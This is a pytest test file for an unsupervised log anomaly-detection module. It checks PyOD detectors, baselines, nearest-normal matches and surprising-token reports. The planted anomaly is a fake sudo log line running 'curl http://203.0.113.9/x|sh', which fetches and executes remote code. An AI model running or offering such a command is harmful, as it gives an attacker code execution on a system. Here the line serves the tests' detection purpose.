"""Unsupervised detection: what stands out, against what, and with which detector."""

import sys
import threading

import numpy as np
import pytest
from pyod.models.iforest import IForest

from logfm.configs.schema.embeddings import DetectConfig
from logfm.embeddings import LogEncoder
from logfm.embeddings.detect import _refusal, detect, find
from logfm.embeddings.detectors import detector_names
from logfm.errors import UserError
from tests.embeddings.samples import log_lines, write_log

ODD = "Jan  5 10:09:09 host1 sudo: mallory : TTY=pts/0 ; USER=root ; COMMAND=/bin/bash -c curl http://203.0.113.9/x|sh"


def cloud(count=300, dim=8, seed=0):
    vectors = np.random.default_rng(seed).standard_normal((count, dim)).astype(np.float32)
    vectors[-3:] += 12
    return vectors


def test_isolation_forest_is_pyods_own():
    vectors = cloud()
    found = detect(vectors, DetectConfig(contamination=0.02, seed=3))
    theirs = IForest(contamination=0.02, random_state=3).fit(vectors)
    assert np.array_equal(found.scores, theirs.decision_function(vectors))
    assert found.threshold == theirs.threshold_
    assert set(np.argsort(-found.scores)[:3]) == {297, 298, 299}
    assert np.array_equal(detect(vectors, DetectConfig(contamination=0.02, seed=3)).scores, found.scores)


@pytest.mark.parametrize(
    "method", ["knn", "ecod", "lof", "hbos", "pca", "ocsvm", "copod", "gmm", "mcd", "cblof", "kde", "inne", "loda"]
)
def test_higher_is_more_abnormal_for_every_method(method):
    found = detect(cloud(), DetectConfig(method=method))
    assert found.scores[-3:].min() > np.median(found.scores)


def test_a_baseline_decides_what_is_normal():
    normal = cloud(400, seed=1)[:-3]
    shifted = np.concatenate([normal[:50], normal[:50] + 12])
    found = detect(shifted, DetectConfig(method="knn", contamination=0.01), baseline=normal)
    assert (found.scores[50:] > found.threshold).all()
    assert (found.scores[:50] > found.threshold).mean() < 0.1
    # Half of the input is odd: without the baseline it looks normal to itself.
    assert (detect(shifted, DetectConfig(method="knn")).scores[50:] > found.threshold).mean() < 0.5
    assert found.fitted.shape == (397,)


@pytest.mark.parametrize("name", ["nothing", "base", "pyg_conad", "ts_od", "os", "../iforest", "iforest.x", "suod", ""])
def test_only_detectors_of_vectors_are_taken(name):
    with pytest.raises(UserError, match="no such detector"):
        detect(cloud(), DetectConfig(method=name))


def test_the_names_are_those_that_pyod_has():
    names = detector_names()
    assert {"iforest", "ecod", "knn", "lof", "cd"} & set(names) == {"iforest", "ecod", "knn", "lof"}
    assert len(names) > 25


def test_a_detector_that_prints_leaves_stdout_alone(capsys):
    detect(cloud(60), DetectConfig(method="vae"))
    found = capsys.readouterr()
    assert found.out == ""
    assert "epoch" in found.err.lower() or "training" in found.err.lower()


def test_detectors_in_several_threads_leave_stdout_as_it_was():
    before = sys.stdout
    first_in, second_in, first_out = threading.Event(), threading.Event(), threading.Event()

    def first():
        with _refusal("knn"):
            first_in.set()
            second_in.wait(0.2)
        first_out.set()

    def second():
        first_in.wait()
        with _refusal("knn"):
            second_in.set()
            first_out.wait()

    threads = [threading.Thread(target=one) for one in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sys.stdout is before


def test_a_detector_that_cannot_be_used_says_so():
    with pytest.raises(UserError, match="needs the package"):
        detect(cloud(), DetectConfig(method="feature_bagging"))
    with pytest.raises(UserError, match="the detector knn cannot score"):
        detect(cloud(3), DetectConfig(method="knn"))
    with pytest.raises(UserError, match="at least two events"):
        detect(cloud(1), DetectConfig())


def test_a_finding_leads_back_to_the_byte_and_names_what_it_resembles(tmp_path, minilm):
    lines = [*log_lines(150), ODD, *log_lines(149, seed=2)]
    log = write_log(tmp_path / "app.log", lines)
    found = find([log], minilm, DetectConfig(top=5))
    assert found.events == 300
    first = found.findings[0]
    assert first.text == ODD
    assert first.above_threshold
    assert first.count == 1
    content = (tmp_path / "app.log").read_bytes()
    assert content[first.offset :].startswith(ODD.encode())
    assert first.host == "host1"
    assert first.surprising == []
    assert [one.score for one in found.findings] == sorted((one.score for one in found.findings), reverse=True)
    assert found.above_threshold == 3
    nearest = first.nearest_normal
    vectors = minilm.encode([ODD, nearest.text])
    unit = vectors / np.linalg.norm(vectors, axis=1, keepdims=True)
    assert nearest.score == pytest.approx(float(unit[0] @ unit[1]), abs=1e-5)
    assert content[nearest.offset :].startswith(nearest.text.encode())
    others = minilm.encode([line for line in lines if line != ODD])
    assert nearest.score <= (others @ unit[0]).max() + 1e-5


@pytest.mark.parametrize("with_baseline", [False, True])
def test_no_event_is_its_own_nearest_normal_event(tmp_path, letters, with_baseline):
    lines = log_lines(150)
    log = write_log(tmp_path / "app.log", lines * 2)
    baseline = [write_log(tmp_path / "week.log", log_lines(200))] if with_baseline else None
    found = find([log], letters, DetectConfig(method="knn", top=40), baseline)
    others = sorted(set(log_lines(200))) if with_baseline else lines
    for one in found.findings:
        nearest = one.nearest_normal
        assert nearest.text != one.text
        rivals = [text for text in others if text != one.text]
        vectors = letters.encode([one.text, nearest.text, *rivals])
        unit = vectors / np.linalg.norm(vectors, axis=1, keepdims=True)
        assert nearest.score == pytest.approx(float(unit[0] @ unit[1]), abs=1e-5)
        # What lies above the threshold is no answer either: few do.
        assert (unit[2:] @ unit[0] > nearest.score + 1e-5).mean() <= 0.02
    log = write_log(tmp_path / "same.log", ["a line"] * 30)
    assert find([log], letters, DetectConfig(top=1)).findings[0].nearest_normal is None


def test_equal_texts_are_one_finding_with_their_number(tmp_path, letters):
    lines = [*log_lines(80), *(["zzzz zzzz zzzz"] * 2), "99999999 qqqq"]
    log = write_log(tmp_path / "app.log", lines)
    found = find([log], letters, DetectConfig(top=3, contamination=0.1))
    texts = [one.text for one in found.findings]
    assert len(set(texts)) == 3
    counts = {one.text: one.count for one in found.findings}
    assert counts["zzzz zzzz zzzz"] == 2
    assert counts["99999999 qqqq"] == 1


def test_a_baseline_of_logs(tmp_path, letters):
    normal = write_log(tmp_path / "normal.log", log_lines(100))
    log = write_log(tmp_path / "app.log", ["zzzz zzzz zzzz", *log_lines(5, seed=4)])
    found = find([log], letters, DetectConfig(method="knn", top=2), baseline=[normal])
    assert found.findings[0].text == "zzzz zzzz zzzz"
    assert found.findings[0].nearest_normal.file == normal
    assert found.events == 6


def test_our_encoder_names_the_surprising_tokens(tmp_path, ours, encoder_folder):
    log = write_log(tmp_path / "app.log", [*log_lines(60), ODD])
    found = find([log], ours, DetectConfig(top=2, tokens=3))
    for finding in found.findings:
        nats = [token.nats for token in finding.surprising]
        assert len(nats) == 3
        assert nats == sorted(nats, reverse=True)
        assert all(finding.text[token.start : token.end] for token in finding.surprising)
    assert find([log], ours, DetectConfig(top=1, tokens=0)).findings[0].surprising == []
    reading = LogEncoder.load(encoder_folder, reads="message")
    first = next(one for one in find([log], reading, DetectConfig(top=70, tokens=9)).findings if one.text == ODD)
    assert len(first.surprising) == 9
    assert all(token.start >= ODD.index("mallory") for token in first.surprising)


def test_tfidf_learns_from_the_baseline(tmp_path):
    normal = write_log(tmp_path / "normal.log", log_lines(60))
    log = write_log(tmp_path / "app.log", [ODD, *log_lines(5)])
    encoder = LogEncoder.load("tfidf")
    assert find([log], encoder, DetectConfig(method="knn", top=1), baseline=[normal]).events == 6
    other = LogEncoder.load("tfidf")
    other.fit(log_lines(60))
    assert other.hash == encoder.hash
